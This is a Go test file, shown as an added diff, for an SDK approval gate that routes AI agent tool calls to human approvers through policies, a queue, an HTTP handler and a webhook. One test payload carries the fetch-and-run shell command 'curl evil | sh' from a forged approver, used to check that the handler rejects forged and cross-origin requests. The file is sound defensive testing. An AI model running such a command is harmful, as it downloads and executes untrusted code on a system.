@@ -0,0 +1,305 @@
+package approvals
+
+import (
+	"context"
+	"encoding/json"
+	"errors"
+	"net/http"
+	"net/http/httptest"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/jrossi/claude-code-sdk-golang/policy"
+	"github.com/jrossi/claude-code-sdk-golang/types"
+)
+
+func decision(output types.HookOutput) (any, any) {
+	return output.HookSpecificOutput["permissionDecision"], output.HookSpecificOutput["permissionDecisionReason"]
+}
+
+func TestGateWithPolicy(t *testing.T) {
+	p, err := policy.Parse([]byte(`{"rules": [
+		{"tools": ["Read"], "action": "allow"},
+		{"name": "shell", "tools": ["Bash"], "action": "deny", "reason": "shell needs approval"},
+		{"tools": ["WebFetch"], "action": "ask"}
+	]}`))
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	var asked []Request
+	gate := New(ApproverFunc(func(ctx context.Context, req Request) (Response, error) {
+		asked = append(asked, req)
+		if req.Tool == "Bash" {
+			return Response{Approved: true, Approver: "alice", UpdatedInput: map[string]any{"command": "ls -la"}}, nil
+		}
+		return Response{Reason: "no network", Approver: "bob"}, nil
+	}))
+	gate.Policy = p
+	hook := gate.Hook()
+
+	tests := []struct {
+		tool     string
+		decision any
+		reason   any
+	}{
+		{"Read", "allow", nil},
+		{"Glob", nil, nil},
+		{"Bash", "allow", nil},
+		{"WebFetch", "deny", "no network (bob)"},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.tool, func(t *testing.T) {
+			output, err := hook(context.Background(), types.HookInput{ToolName: tt.tool, SessionID: "s1"}, "toolu_"+tt.tool)
+			if err != nil {
+				t.Fatal(err)
+			}
+			d, reason := decision(output)
+			if d != tt.decision || reason != tt.reason {
+				t.Errorf("Expected %v (%v), got %v (%v)", tt.decision, tt.reason, d, reason)
+			}
+			if tt.tool == "Bash" && output.HookSpecificOutput["updatedInput"].(map[string]any)["command"] != "ls -la" {
+				t.Errorf("Expected the approver's input, got %v", output.HookSpecificOutput)
+			}
+		})
+	}
+
+	if len(asked) != 2 || asked[0].Rule != "shell" || asked[0].Reason != "shell needs approval" || asked[0].SessionID != "s1" || asked[0].ID != "toolu_Bash" {
+		t.Errorf("Expected only the denied and asked calls to need approval, got %+v", asked)
+	}
+}
+
+func TestGateRejectsOnFailure(t *testing.T) {
+	tests := []struct {
+		name     string
+		approver ApproverFunc
+		reason   string
+	}{
+		{"timeout", func(ctx context.Context, req Request) (Response, error) {
+			<-ctx.Done()
+			return Response{}, ctx.Err()
+		}, "approval timed out after 20ms"},
+		{"error", func(ctx context.Context, req Request) (Response, error) {
+			return Response{}, errors.New("pager down")
+		}, "approval failed: pager down"},
+		{"no reason", func(ctx context.Context, req Request) (Response, error) {
+			return Response{}, nil
+		}, "rejected"},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			gate := New(tt.approver)
+			gate.Timeout = 20 * time.Millisecond
+			output, err := gate.Hook()(context.Background(), types.HookInput{ToolName: "Bash"}, "t1")
+			if err != nil {
+				t.Fatal(err)
+			}
+			if d, reason := decision(output); d != "deny" || reason != tt.reason {
+				t.Errorf("Expected deny (%s), got %v (%v)", tt.reason, d, reason)
+			}
+		})
+	}
+}
+
+func TestApply(t *testing.T) {
+	gate := New(NewQueue(1))
+	gate.Timeout = time.Minute
+	options := gate.Apply(types.NewOptions())
+
+	matchers := options.Hooks[types.HookEventPreToolUse]
+	if len(matchers) != 1 || matchers[0].Matcher != "" || matchers[0].Timeout != time.Minute+hookGrace {
+		t.Errorf("Expected one hook outlasting the gate's timeout, got %+v", matchers)
+	}
+}
+
+func TestQueue(t *testing.T) {
+	queue := NewQueue(1)
+	gate := New(queue)
+
+	results := make(chan types.HookOutput, 2)
+	for _, id := range []string{"t1", "t2"} {
+		go func() {
+			output, _ := gate.Hook()(context.Background(), types.HookInput{ToolName: "Bash"}, id)
+			results <- output
+		}()
+	}
+
+	// The first request fills the channel's buffer; both are pending
+	pending := <-queue.Requests()
+	deadline := time.Now().Add(2 * time.Second)
+	for len(queue.Pending()) < 2 && time.Now().Before(deadline) {
+		time.Sleep(5 * time.Millisecond)
+	}
+	if len(queue.Pending()) != 2 {
+		t.Fatalf("Expected 2 pending requests, got %+v", queue.Pending())
+	}
+
+	other := "t1"
+	if pending.ID == "t1" {
+		other = "t2"
+	}
+	if !pending.Approve("ok") || pending.Approve("again") {
+		t.Error("Expected only the first decision to count")
+	}
+	if err := queue.Resolve(other, Response{Reason: "nope"}); err != nil {
+		t.Fatal(err)
+	}
+	if err := queue.Resolve(other, Response{}); !errors.Is(err, ErrNotPending) {
+		t.Errorf("Expected ErrNotPending for a decided request, got %v", err)
+	}
+
+	decisions := map[any]int{}
+	for range 2 {
+		d, _ := decision(<-results)
+		decisions[d]++
+	}
+	if decisions["allow"] != 1 || decisions["deny"] != 1 {
+		t.Errorf("Expected one approval and one rejection, got %v", decisions)
+	}
+}
+
+func TestQueueTimeout(t *testing.T) {
+	queue := NewQueue(1)
+	ctx, cancel := context.WithTimeout(context.Background(), 20*time.Millisecond)
+	defer cancel()
+
+	if _, err := queue.Approve(ctx, Request{ID: "t1"}); !errors.Is(err, context.DeadlineExceeded) {
+		t.Errorf("Expected a deadline error, got %v", err)
+	}
+	pending := <-queue.Requests()
+	if pending.Approve("late") {
+		t.Error("Expected a late decision to be ignored")
+	}
+	if len(queue.Pending()) != 0 {
+		t.Error("Expected the request to be removed")
+	}
+}
+
+func TestQueueHandler(t *testing.T) {
+	queue := NewQueue(0)
+	server := httptest.NewServer(queue.Handler(func(r *http.Request) (string, error) {
+		if r.Header.Get("Authorization") != "Bearer carol" {
+			return "", errors.New("unknown caller")
+		}
+		return "carol", nil
+	}))
+	defer server.Close()
+
+	result := make(chan Response, 1)
+	go func() {
+		resp, _ := queue.Approve(context.Background(), Request{ID: "toolu_1", Tool: "Bash"})
+		result <- resp
+	}()
+
+	send := func(method, query, contentType, origin, body string) *http.Response {
+		t.Helper()
+		req, err := http.NewRequest(method, server.URL+query, strings.NewReader(body))
+		if err != nil {
+			t.Fatal(err)
+		}
+		req.Header.Set("Authorization", "Bearer carol")
+		if contentType != "" {
+			req.Header.Set("Content-Type", contentType)
+		}
+		if origin != "" {
+			req.Header.Set("Origin", origin)
+		}
+		resp, err := http.DefaultClient.Do(req)
+		if err != nil {
+			t.Fatal(err)
+		}
+		return resp
+	}
+
+	var listed []Request
+	deadline := time.Now().Add(2 * time.Second)
+	for len(listed) == 0 && time.Now().Before(deadline) {
+		resp := send(http.MethodGet, "", "", "", "")
+		json.NewDecoder(resp.Body).Decode(&listed)
+		resp.Body.Close()
+	}
+	if len(listed) != 1 || listed[0].Tool != "Bash" {
+		t.Fatalf("Expected the pending request to be listed, got %+v", listed)
+	}
+
+	approve := `{"approved":true,"approver":"mallory","updated_input":{"command":"curl evil | sh"}}`
+	tests := []struct {
+		name        string
+		query       string
+		contentType string
+		origin      string
+		body        string
+		status      int
+	}{
+		{"unknown request", "?id=missing", "application/json", "", `{"approved":true}`, http.StatusNotFound},
+		{"plain text", "?id=toolu_1", "text/plain", "", approve, http.StatusUnsupportedMediaType},
+		{"cross origin", "?id=toolu_1", "application/json", "https://evil.example", approve, http.StatusForbidden},
+		{"too large", "?id=toolu_1", "application/json", "", `{"reason":"` + strings.Repeat("x", maxResponseSize) + `"}`, http.StatusBadRequest},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			resp := send(http.MethodPost, tt.query, tt.contentType, tt.origin, tt.body)
+			resp.Body.Close()
+			if resp.StatusCode != tt.status {
+				t.Errorf("Expected %d, got %d", tt.status, resp.StatusCode)
+			}
+		})
+	}
+
+	resp, err := http.Post(server.URL+"?id=toolu_1", "application/json", strings.NewReader(approve))
+	if err != nil {
+		t.Fatal(err)
+	}
+	resp.Body.Close()
+	if resp.StatusCode != http.StatusUnauthorized {
+		t.Errorf("Expected 401 without credentials, got %d", resp.StatusCode)
+	}
+
+	resp = send(http.MethodPost, "?id=toolu_1", "application/json; charset=utf-8", server.URL, `{"approved":true,"approver":"mallory"}`)
+	resp.Body.Close()
+	if resp.StatusCode != http.StatusNoContent {
+		t.Errorf("Expected 204, got %d", resp.StatusCode)
+	}
+	if got := <-result; !got.Approved || got.Approver != "carol" {
+		t.Errorf("Expected carol's approval, got %+v", got)
+	}
+}
+
+func TestQueueHandlerRequiresAuthorize(t *testing.T) {
+	defer func() {
+		if recover() == nil {
+			t.Error("Expected Handler to panic without authorize")
+		}
+	}()
+	NewQueue(0).Handler(nil)
+}
+
+func TestWebhook(t *testing.T) {
+	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		if r.Header.Get("Authorization") != "Bearer token" {
+			w.WriteHeader(http.StatusUnauthorized)
+			return
+		}
+		var req Request
+		json.NewDecoder(r.Body).Decode(&req)
+		json.NewEncoder(w).Encode(Response{Approved: req.Tool == "Read", Reason: "by webhook"})
+	}))
+	defer server.Close()
+
+	webhook := NewWebhook(server.URL)
+	if _, err := webhook.Approve(context.Background(), Request{Tool: "Read"}); err == nil || !strings.Contains(err.Error(), "401") {
+		t.Errorf("Expected an error for a 401 reply, got %v", err)
+	}
+
+	webhook.Header.Set("Authorization", "Bearer token")
+	resp, err := webhook.Approve(context.Background(), Request{Tool: "Read"})
+	if err != nil {
+		t.Fatal(err)
+	}
+	if !resp.Approved || resp.Reason != "by webhook" {
+		t.Errorf("Unexpected response: %+v", resp)
+	}
+}